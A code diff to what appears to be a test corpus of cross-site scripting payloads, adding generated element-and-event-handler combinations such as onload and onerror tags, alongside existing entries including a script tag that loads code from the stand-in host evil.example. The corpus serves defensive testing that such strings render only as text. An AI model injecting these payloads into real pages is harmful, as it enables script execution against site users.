@@ -1,6 +1,32 @@
 /** Texts that made markup or left the page in other programs. Here each is only text. */
 
+const ELEMENTS = [
+  "body",
+  "details open",
+  "video src=x",
+  "audio src=x",
+  "input autofocus",
+  "object data=x",
+  "marquee",
+  "a href=x",
+];
+const HANDLERS = [
+  "onload",
+  "onerror",
+  "onfocus",
+  "ontoggle",
+  "onstart",
+  "onpointerenter",
+  "onanimationend",
+  "onbeforetoggle",
+  "onscrollend",
+];
+
+/** Each element with each handler: who forbids by a list forgets one. */
+const HANDLED = ELEMENTS.flatMap((element) => HANDLERS.map((handler) => `<${element} ${handler}=alert(1)>`));
+
 export const XSS_CORPUS: readonly string[] = [
+  ...HANDLED,
   "<script>alert(1)</script>",
   "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
   "<img src=x onerror=alert(1)>",
